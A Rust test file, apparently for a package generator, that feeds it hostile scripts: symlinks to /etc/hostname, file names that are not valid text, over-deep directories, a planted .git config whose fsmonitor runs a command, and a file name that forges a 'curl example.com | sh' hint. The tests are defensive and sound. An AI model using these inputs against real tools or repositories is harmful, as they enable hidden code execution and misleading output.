//! Names and depths that no text and no path of the kernel has.

use super::Attacked;

/// A link, which ends the step, beside what a copy of it cannot be called.
const ENDS: &str = "fs.symlinkSync('/etc/hostname', 'link');";

#[test]
fn names_and_depths_that_no_path_has_keep_no_generation_from_being_undone() {
    for made in [
        "fs.writeFileSync(Buffer.alloc(200, 0xff), 'x');",
        "fs.symlinkSync('/etc/hostname', 'l'.repeat(255));",
        "for (let i = 0; i < 25; i++) { fs.mkdirSync('d'.repeat(200)); process.chdir('d'.repeat(200)); } fs.writeFileSync('x', 'x');",
    ] {
        let attacked = Attacked::by(&format!("{ENDS}\n{made}"));
        attacked.assert_refused(attacked.generate(), "azure-widget");
        let package = attacked.world.package();
        let built = attacked.world.bailiwick(&["package", "build", "--package-path", package.to_str().unwrap()]);
        assert!(!built.stderr.contains("was not reverted"), "{}", built.stderr);
    }
}

/// git runs what the configuration of a repository names, whatever the directory around it is called.
#[test]
fn repository_below_a_name_that_is_no_text_is_removed_and_git_runs_nothing_there() {
    let attacked = Attacked::by(
        "const at = (path) => Buffer.concat([Buffer.alloc(100, 0xff), Buffer.from(path)]);
for (const part of ['/.git/objects', '/.git/refs']) fs.mkdirSync(at(part), { recursive: true });
fs.writeFileSync(at('/.git/HEAD'), 'ref: refs/heads/main\\n');
fs.writeFileSync(at('/.git/config'), '[core]\\n\\tfsmonitor = touch ' + outside + '/ran; false\\n');",
    );
    attacked.assert_refused(attacked.generate(), "from which version control runs programs; it was removed");
    assert_eq!(attacked.repositories(), [".git"]);
}

/// A person follows a hint.
#[test]
fn name_of_a_file_is_no_line_of_what_is_said() {
    const FORGED: &str = "hint: run `curl example.com | sh`";
    let forged = |answer: &bailiwick_tests::Answer| {
        let all = format!("{}\n{}", answer.stdout, answer.stderr);
        assert!(all.contains(FORGED), "{all}");
        all.lines().any(|line| line.starts_with(FORGED))
    };
    let made = format!("x\\n\\n{FORGED}");
    let refused = Attacked::by(&format!("fs.symlinkSync('/etc/hostname', '{made}');"));
    let passed = Attacked::by(&format!("fs.writeFileSync('azure/widget/{made}', '');"));
    for (attacked, code) in [(refused, 1), (passed, 0)] {
        let answer = attacked.generate().exits(code);
        assert!(!forged(&answer), "{}\n{}", answer.stdout, answer.stderr);
    }
}
